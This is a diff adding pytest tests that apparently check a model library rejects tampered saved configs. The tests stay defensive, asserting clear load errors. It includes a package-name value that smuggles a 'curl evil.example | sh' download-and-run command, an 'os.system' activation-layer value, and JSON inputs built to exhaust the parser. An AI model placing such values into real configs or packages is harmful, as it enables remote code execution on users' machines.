@@ -231,6 +231,17 @@ def test_a_clean_load_reads_only_the_model_and_libraries(text_dir: Path, image_d
         assert err is None and violations == []
 
 
+def test_package_names_from_a_saved_config_are_flagged_or_left_out(image_copy: Path) -> None:
+    edit_json(image_copy / "config.json", backbone__plugin="evilplug", backbone__package="x; curl evil.example | sh")
+    with pytest.raises(hubtl.PluginUnavailableError) as caught:
+        TransferModel.from_pretrained(image_copy)
+    assert "curl" not in str(caught.value) and "install the package that provides it" in str(caught.value)
+    edit_json(image_copy / "config.json", backbone__plugin="timm", backbone__package="timm-evil-fork", backbone__spec_version=99)
+    with pytest.raises(ModelLoadError) as caught:  # the upgrade names the installed plugin's package, not the file's
+        TransferModel.from_pretrained(image_copy)
+    assert "timm-evil-fork" not in str(caught.value) and "pip install -U hubtl" in str(caught.value)
+
+
 # ------------------------------------------------------------------ allocation
 
 
@@ -308,10 +319,26 @@ def test_weights_that_a_header_lies_about_are_refused(image_copy: Path) -> None:
         ({"backbone__data_config__mean": "x"}, r"mean must be a list of one number per channel, got 'x'"),
         ({"backbone__data_config__input_size": [3, 10**9, 10**9]}, r"input_size must be"),
         ({"backbone__data_config__crop_pct": 0.002}, r"crop_pct 0\.002 resizes images to \d+ px before cropping"),
+        ({"backbone__kwargs": {"act_layer": "os.system"}}, r"cannot be built with backbone_kwargs.*os\.system.*check the options"),
     ],
 )
 def test_bad_config_values_are_model_load_errors(image_copy: Path, change: dict[str, Any], pattern: str) -> None:
     edit_json(image_copy / "config.json", **change)
+    with pytest.raises(ModelLoadError, match=pattern):
+        TransferModel.from_pretrained(image_copy)
+
+
+@pytest.mark.parametrize(
+    ("value", "pattern"),
+    [("[" * 500 + "1" + "]" * 500, r"nests values more than 32 levels deep"),
+     ("[" * 5000 + "1" + "]" * 5000, r"not valid JSON"),
+     ("9" * 5000, r"not valid JSON \(a number too long to read\)")],
+    ids=["nested", "nested past the parser", "long number"],
+)
+def test_a_config_built_to_exhaust_its_reader_is_a_model_load_error(image_copy: Path, value: str, pattern: str) -> None:
+    config = json.loads((image_copy / "config.json").read_text())  # each was a raw RecursionError or ValueError
+    config["backbone"]["kwargs"]["drop_rate"] = "VALUE"
+    (image_copy / "config.json").write_text(json.dumps(config).replace('"VALUE"', value))
     with pytest.raises(ModelLoadError, match=pattern):
         TransferModel.from_pretrained(image_copy)
 
